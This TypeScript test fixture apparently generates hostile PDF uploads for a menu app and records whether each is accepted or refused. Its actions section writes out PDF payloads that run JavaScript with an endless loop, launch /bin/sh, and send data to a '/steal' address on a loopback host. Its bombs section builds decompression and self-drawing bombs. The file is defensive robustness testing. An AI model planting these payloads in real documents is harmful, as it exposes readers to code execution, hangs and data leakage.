import { deflateSync } from "node:zlib";
import { accepted, type HostileFile, refused } from "./hostile-file.ts";
import { pdf, pdfOfPages, stream } from "./pdf-bytes.ts";

const asPdf = { name: "menu.pdf", contentType: "application/pdf" };
const pages = (count: number) => Array.from({ length: count }, () => "");
const flate = (data: Buffer | string) => deflateSync(data, { level: 9 });

// 32 bytes each that no password fits: a reader has to ask, and Carte does not.
const LOCK = `/Filter /Standard /V 1 /R 2 /P -64 /O <${"5a".repeat(32)}> /U <${"c3".repeat(32)}>`;

function structure(): HostileFile[] {
  const selfParent = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>";
  return [
    refused(
      "PDF locked with a password",
      pdfOfPages([""], { trailer: `/Encrypt << ${LOCK} >> /ID [<00> <00>]` }),
      asPdf,
    ),
    refused("PDF of 9 pages", pdfOfPages(pages(9)), asPdf),
    refused("PDF of 500 pages", pdfOfPages(pages(500)), asPdf),
    refused("PDF of 20,000 pages", pdfOfPages(pages(20_000)), asPdf),
    accepted("PDF of 8 pages, the most allowed", pdfOfPages(pages(8)), asPdf),
    refused("PDF without a page", pdfOfPages([]), asPdf),
    refused(
      "PDF whose page tree contains itself",
      pdf(["<< /Type /Catalog /Pages 2 0 R >>", selfParent]),
      asPdf,
    ),
    refused("PDF without a catalog", pdf(["<< /Type /Nothing >>"]), asPdf),
    refused("PDF that is a header and nothing else", Buffer.from("%PDF-1.7\n%%EOF\n"), asPdf),
    refused(
      "PDF header before a megabyte of noise",
      Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(1 << 20, 0xa5)]),
      asPdf,
    ),
    refused(
      "PDF that claims a million pages and has none",
      pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 1000000 >>"]),
      asPdf,
    ),
    accepted(
      "PDF whose cross-reference offset is wrong: readers repair it",
      pdfOfPages([""], { startXref: 7 }),
      asPdf,
    ),
    accepted("PDF whose previous cross-reference is itself", pdfOfPages([""], { trailer: "/Prev 0" }), asPdf),
  ];
}

function actions(): HostileFile[] {
  const script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\);) >>";
  return [
    accepted("PDF that runs JavaScript when opened", pdfOfPages([""], { catalog: script }), asPdf),
    accepted(
      "PDF that launches a program",
      pdfOfPages([""], { catalog: "/OpenAction << /S /Launch /F (/bin/sh) >>" }),
      asPdf,
    ),
    accepted(
      "PDF that calls home",
      pdfOfPages([""], { catalog: "/OpenAction << /S /URI /URI (http://127.0.0.1:9/steal) >>" }),
      asPdf,
    ),
    accepted(
      "PDF whose page has a script of its own",
      pdfOfPages(["/AA << /O << /S /JavaScript /JS (this.submitForm\\('http://127.0.0.1:9'\\)) >> >>"]),
      asPdf,
    ),
  ];
}

function bombs(): HostileFile[] {
  const page = "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>";
  const draw = stream(Buffer.from("q 500 0 0 700 0 0 cm /X Do Q"));
  const zeros = Buffer.alloc(40 << 20, 0x20);
  const image = (side: number) =>
    stream(
      flate(Buffer.alloc(1000)),
      `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode`,
    );
  const form = stream(
    Buffer.from("/X Do /X Do"),
    "/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X 5 0 R >> >>",
  );
  return [
    accepted(
      "PDF whose content unpacks to 40 MB of blanks",
      pdfOfPages(["/Contents 4 0 R"], { extra: [stream(flate(zeros), "/Filter /FlateDecode")] }),
      asPdf,
    ),
    accepted(
      "PDF whose content is packed three times",
      pdfOfPages(["/Contents 4 0 R"], {
        extra: [stream(flate(flate(flate(zeros))), "/Filter [/FlateDecode /FlateDecode /FlateDecode]")],
      }),
      asPdf,
    ),
    accepted(
      "PDF with an image of 12,000 by 12,000 that has no data",
      pdfOfPages([page], { extra: [draw, image(12_000)] }),
      asPdf,
    ),
    refused(
      "PDF with a drawing that draws itself twice, without end",
      pdfOfPages([page], { extra: [draw, form] }),
      asPdf,
    ),
    accepted("PDF page of 5 by 5 metres", pdfOfPages(["/MediaBox [0 0 14400 14400]"]), asPdf),
    refused("PDF page a million times longer than wide", pdfOfPages(["/MediaBox [0 0 1 1000000]"]), asPdf),
  ];
}

export async function* pdfs(): AsyncGenerator<HostileFile> {
  yield* structure();
  yield* actions();
  yield* bombs();
}
